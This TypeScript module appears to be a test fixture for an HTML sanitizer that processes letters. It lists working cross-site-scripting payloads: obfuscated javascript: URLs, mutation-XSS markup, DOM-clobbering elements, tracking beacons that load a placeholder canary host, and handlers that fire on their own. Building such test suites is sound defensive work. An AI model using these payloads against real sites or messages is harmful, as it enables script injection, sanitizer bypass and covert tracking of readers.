import { markupPayloads } from './markup-payloads.ts';

const CALL = 'window.fired()';
/** Asked for by whatever loads something from outside. */
const CANARY = 'https://canary.example/x';

/** Addresses that browsers have taken for code, in one way of writing or another. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `&Tab;javascript:${CALL}`,
  `javascript:/*--></title></style>*/${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuZmlyZWQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=parent.fired()>`,
  `blob:${CALL}`,
  `filesystem:${CALL}`,
];

/** Where an address may stand. */
const HOLDERS = [
  (address: string) => `<a href="${address}">לחצו כאן</a>`,
  (address: string) => `<img src="${address}" alt="תמונה">`,
  (address: string) => `<area href="${address}"><map><area href="${address}"></map>`,
];

/** Markup that means one thing to whoever checks it and another to the page. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${CALL}>">`,
  `<noscript><style></noscript><img src=x onerror=${CALL}>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><desc><noscript><a title="</noscript><img src=x onerror=${CALL}>">`,
  `<svg><title><style></title><img src=x onerror=${CALL}></style>`,
  `<template><style></template><img src=x onerror=${CALL}></style>`,
  `<table><td><iframe><select><img src=x onerror=${CALL}>`,
  `<option><style></option></select><b><img src=xx: onerror=${CALL}></style></option>`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
  `<listing>&lt;img onerror=${CALL} src=x&gt;</listing>`,
  `<textarea><img title="</textarea><img src onerror=${CALL}>"></textarea>`,
  `<svg><p><style><g title="</style><img src=x onerror=${CALL}>"></p></svg>`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--!><img src=x onerror=${CALL}>`,
  `<? <img src=x onerror=${CALL}> ?>`,
  `<b <script>${CALL}</script>0`,
  `<p id="</p><img src=x onerror=${CALL}>">`,
  `<${'b><'.repeat(300)}img src=x onerror=${CALL}>`,
];

/** Elements named like what a page looks up by name. */
const CLOBBERS = [
  `<form id=document><input name=body></form>`,
  `<a id=fired href="javascript:${CALL}"></a>`,
  `<img name=getElementById><img name=createElement>`,
  `<form name=attributes><input name=attributes></form>`,
  `<form><input name=parentNode><input name=childNodes></form>`,
  `<a id=root></a><a id=main></a>`,
];

/** What asks for something outside, and so tells who is reading. */
const BEACONS = [
  `<img src="${CANARY}.png">`,
  `<img srcset="${CANARY}.png 2x" src="${CANARY}.gif">`,
  `<picture><source srcset="${CANARY}.webp"><img></picture>`,
  `<p style="background:url(${CANARY})">שלום</p>`,
  `<style>body{background:url(${CANARY})}</style>`,
  `<link rel=stylesheet href="${CANARY}.css"><link rel=prefetch href="${CANARY}">`,
  `<video poster="${CANARY}"></video><audio src="${CANARY}"></audio><track src="${CANARY}">`,
  `<input type=image src="${CANARY}">`,
  `<svg><image href="${CANARY}"/><use href="${CANARY}#a"/><feImage href="${CANARY}"/></svg>`,
  `<iframe src="${CANARY}"></iframe><frame src="${CANARY}"><object data="${CANARY}"></object>`,
  `<body background="${CANARY}"><table background="${CANARY}"><tr><td>.</td></tr></table>`,
  `<img src="//canary.example/x.png"><img src="https://pictures.example@canary.example/x.png">`,
  `<img src="https://pictures.example.canary.example/x.png">`,
  `<script src="${CANARY}.js"></script><script type=module>import '${CANARY}.js'</script>`,
  `<a href="${CANARY}" ping="${CANARY}">קישור</a>`,
  `<meta http-equiv=refresh content="0;url=${CANARY}"><base href="${CANARY}/">`,
];

/** Handlers that need nobody's hand. */
const BY_THEMSELVES = [
  `<p style="animation:spin 1ms" onanimationstart=${CALL}>.</p>`,
  `<p style="transition:all 1ms" ontransitionend=${CALL}>.</p>`,
  `<b id=x tabindex=0 autofocus onfocus=${CALL}>.</b>`,
  `<div contenteditable autofocus onfocus=${CALL}>.</div>`,
  `<dialog open onclose=${CALL}><form method=dialog><button autofocus>.</button></form></dialog>`,
  `<p oncontentvisibilityautostatechange=${CALL} style="content-visibility:auto">.</p>`,
  `<div popover id=p onbeforetoggle=${CALL}>.</div><button popovertarget=p>.</button>`,
  `<p is=x-y onload=${CALL}><x-y onconnected=${CALL}>.</x-y></p>`,
  `<p slot=x><template shadowrootmode=open><script>${CALL}</script></template></p>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x onerror\u000C=${CALL}>`,
  `<IMG """><SCRIPT>${CALL}</SCRIPT>">`,
];

/** Letters that would run something, ask for something or upset the page, were they drawn as they are. */
export const letterPayloads: readonly string[] = [
  ...markupPayloads,
  ...HOLDERS.flatMap((holder) => ADDRESSES.map(holder)),
  ...MUTATIONS,
  ...CLOBBERS,
  ...BEACONS,
  ...BY_THEMSELVES,
];
